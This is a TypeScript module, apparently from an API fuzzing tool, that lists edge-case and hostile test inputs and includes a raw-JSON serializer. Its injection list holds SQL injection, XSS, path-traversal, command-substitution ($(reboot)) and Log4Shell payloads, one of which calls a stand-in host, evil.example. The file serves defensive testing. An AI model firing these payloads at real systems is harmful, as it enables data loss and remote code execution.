/** Hostile and edge-case values the mutations are made of, and the JSON writer that can send all of them. */

export const UNICODE_EDGE_CASES = [
  "👩‍👩‍👧‍👦🎓",
  "\u202Egnp.exe",
  "مرحبا بالعالم",
  "שלום עולם",
  "a\u0000b",
  "\u0000",
  "\uD800",
  "x\uDC00y",
  "\uDBFF\uDBFF",
  "\uFEFF\u200B\u200D",
  "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
  "\u0085\u2028\u2029",
  "𝕬𝖈𝖆𝖉𝖊𝖒𝖞",
  "\r\n\t",
  "İıſ",
];

export const INJECTION_STRINGS = [
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  "1; SELECT * FROM tenants",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "$(reboot)",
  "%00",
  "javascript:alert(1)",
  '{"$gt":""}',
  "__proto__",
];

/** Numbers that break naive code: out of range, negative, beyond 2^53, fractional. */
export const HUGE_NUMBERS: unknown[] = [1e308, -1, 2 ** 63, -(2 ** 63), 2 ** 53 + 2, 1.5, 0, -0.0001, 5e-324];
/** Number literals JSON can carry but a double cannot hold; sent verbatim. */
export const RAW_NUMBERS = ["1e400", "-1e400", "123456789012345678901234567890", "1E+2", "-0"];

/** Literal JSON text to splice into a body where a marker string stands (what JSON.stringify cannot write). */
const RAW_MARK = "\u0001raw:";
const rawLiterals: string[] = [];
export const raw = (literal: string) => {
  let index = rawLiterals.indexOf(literal);
  if (index < 0) index = rawLiterals.push(literal) - 1;
  return `${RAW_MARK}${index}`;
};

/** The literal behind a `raw(...)` marker, or undefined for any other value. */
export function rawLiteral(value: unknown): string | undefined {
  return typeof value === "string" && value.startsWith(RAW_MARK)
    ? rawLiterals[Number(value.slice(RAW_MARK.length))]
    : undefined;
}

/** JSON text of a body, with `raw(...)` markers replaced by their literal text. */
export function serializeJson(value: unknown): string {
  return JSON.stringify(value).replace(/"\\u0001raw:(\d+)"/g, (_, index: string) => rawLiterals[Number(index)]);
}

export const WRONG_TYPES: Record<string, unknown[]> = {
  string: [12345, true, {}, [], 0, null],
  integer: ["12", 1.5, true, "", {}, [], null],
  number: ["1.5", true, [], {}, null],
  boolean: ["true", 1, 0, "yes", null],
  array: ["a", { 0: "a" }, 1, null],
  object: ["a", [], 1, true, null],
  null: [0, "", false],
};

export const MALFORMED_JSON = [
  "{",
  '{"name":',
  "{'name': 'x'}",
  '{"a":1,}',
  "[1,2",
  "nul",
  '{"a":NaN}',
  '{"a":1}}',
  "\u0000{}",
  '{"a":"\\x41"}',
  '{"a":"unterminated}',
  "{a:1}",
  '{"a":1} garbage',
  "\uFEFF\uFEFF{}",
];

/** Characters that stress the limits differently: plain, LIKE wildcards and escapes, multi-byte UTF-8. */
export const LIMIT_FILLS = ["x", "%", "_", "\\", "é", "€"];
